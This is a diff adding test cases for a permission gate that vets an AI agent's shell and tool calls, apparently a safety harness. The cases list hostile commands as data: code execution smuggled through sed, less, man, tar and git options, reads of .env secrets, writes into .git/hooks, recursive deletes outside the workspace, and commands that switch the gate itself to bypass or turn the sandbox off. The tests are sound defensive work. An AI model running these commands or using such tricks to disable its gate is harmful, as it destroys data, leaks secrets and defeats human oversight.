@@ -212,4 +212,52 @@ CASES: list[Case] = [
     ("allowed", ("WebFetch", {"url": "https://example.com/x"}), ALLOW),
     ("allowed", ("WebFetch", {"url": "https://EXAMPLE.com./x"}), ALLOW),
     ("allowed", ("Grep", {"pattern": "S", "glob": "*.py", "path": "src"}), ALLOW),
+    # ---- knowledge helper: issue 14 classes 1, 2, 12; issue 28 classes 1-4, 7 (knowledge.py, commands.py)
+    # class 1: findings the words do not show (hidden effects) bar every allow rule
+    *_bash("knowledge-hidden", NO_RULE,
+           "sed -n '1e touch pwn' src/a.py", "sed 's/a/b/w pwn' src/a.py", "sed 's/x/id/e' src/a.py",
+           "less '+!touch pwn' src/a.py", "man -P 'sh -c id' ls", "man --pager=sh ls", "rg --pre=sh foo src",
+           "rg -z foo src", "grep -r foo src; rg --pre sh x", "sort --compress-program=sh src/a.py",
+           "awk 'BEGIN{system(\"touch pwn\")}'", "awk '{print | \"sh\"}' src/a.py", "tar -xf src/a.tar",
+           "tar -cf x.tar --to-command=sh src", "tar -I 'sh -c id' -cf x.tar src", "zip x.zip src/a.py -T -TT sh",
+           "git fetch --upload-pack='touch pwn' origin", "git fetch -u 'touch pwn' origin",
+           "git ls-remote --upload-pack=id origin", "git grep --open-files-in-pager=id foo", "git myalias",
+           "git -c alias.st='!touch pwn' st", "git clone -c core.fsmonitor='touch pwn' x y",
+           "git rebase --exec 'touch pwn' HEAD~1", "LESSOPEN='|touch pwn %s' less src/a.py"),
+    # class 2 / 28.3: files read through options or by programs we do not know meet the Read deny rule
+    *_bash("knowledge-reads", DENY,
+           "file -f .env", "file --files-from=.env", "grep -f .env src/a.py", "grep --file=.env src/a.py",
+           "grep --exclude-from=.env foo src", "rg --ignore-file .env foo", "diff --from-file=.env src/a.py",
+           "wc --files0-from=.env", "sort --files0-from=.env", "jq --rawfile k .env . src/a.json",
+           "mytool .env", "mytool --in=.env", "mytool @.env", "python3 x.py .env", "./cat .env",
+           "/tmp/x/cat .env", "git show HEAD:.env", "tar -cf x.tar -T .env", "awk -f .env src/a.py",
+           "sed --file .env src/a.py", "mytool ./src/../.env"),
+    *_bash("knowledge-writes", DENY, "mytool secrets/a", "mytool --out=secrets/a", "mytool -osecrets/x",
+           "tree -o secrets/a src", "sort -o secrets/a src/a.py", "tar -czf secrets/a.tgz src",
+           "less -o secrets/a src/a.py", "base64 -o secrets/a src/a.py", "mytool of=secrets/a"),
+    # protected paths written by unknown programs or through output options
+    *_bash("knowledge-protected", SAFETY,
+           "mytool .git/hooks/pre-commit", "mytool --output=.git/hooks/x", "mytool -o.git/hooks/x",
+           "wget -O .git/hooks/post-checkout https://x", "tree -o .git/hooks/pre-commit src",
+           "sort -o .git/hooks/x src/a.py", "tar -czf .git/hooks/x src", "./tee .git/hooks/x",
+           "python3 gen.py --out ~/.bashrc"),
+    # 28.2: a program named by a path is not that program
+    *_bash("knowledge-path-program", NO_RULE, "./ls src", "./cat src/a.py", "/tmp/x/grep foo src", "src/cat x",
+           "../bin/ls", "./echo hi"),
+    # 28.4: recursive deletes outside the workspace, in every mode
+    *_bash("knowledge-rmrf", SAFETY, "rm -rf /data", "rm -rf /tmp", "rm -rf /workspace", "rm -rf /srv",
+           "rm -r -f /mnt/x", "rm --recursive /opt/app", "find /srv -delete", "find /data -name x -delete",
+           "rsync -a --delete src/ /srv/www/", "git -C /srv/repo clean -fdx", "chmod -R 777 /data",
+           "chown -R me /var/www", "rm -rf WS/../other", "rm -rf ../", "rm -rf src/outlink/",
+           "chmod -R u+w src/outlink"),
+    # 14.10 (knowledge half): nexusctl and the UIs run by an agent manage the gate
+    *_bash("knowledge-gate", SAFETY, "nexusctl mode bypass", "nexusctl rules add 'Bash(*)'", "nexusctl trust .",
+           "nexusctl answer 1 allow", "/usr/bin/nexusctl reload", "nexusctl policy edit", "nexus-tui", "nexus-web",
+           "nexusctl sandbox off", "nexusctl uninstall"),
+    # 28.7 / 14.12: read-only commands that must stay allowed in default mode
+    *_bash("knowledge-allowed", ALLOW, "tr a-z A-Z < src/a.py", "docker ps", "docker images", "column -t src/a.py",
+           "awk '{print $1}' src/a.py", "tar -tf src/a.tar", "unzip -l src/a.zip", "nexusctl status",
+           "nexusctl rules", "ls --color=auto src", "grep --color=auto -rn foo src", "/usr/bin/cat src/a.py",
+           "git diff HEAD~1 -- src", "git log --oneline -5", "rg -n foo src", "wc -l src/a.py",
+           "sort src/a.py | uniq -c", "head -n 5 src/a.py", "diff -u src/a.py src/b.py", "file src/a.py"),
 ]
